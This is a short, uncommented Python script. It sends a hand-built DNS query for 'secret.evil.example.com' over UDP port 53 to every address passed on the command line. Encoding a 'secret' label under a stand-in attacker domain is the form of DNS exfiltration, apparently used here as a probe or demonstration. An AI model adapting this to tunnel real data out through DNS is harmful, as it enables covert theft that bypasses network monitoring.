import socket, struct, sys

question = b"\1\2\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\3com\0\0\1\0\1"
for address in sys.argv[1:]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        try:
            s.sendto(question, (address, 53))
            s.recv(1000)
        except OSError:
            pass
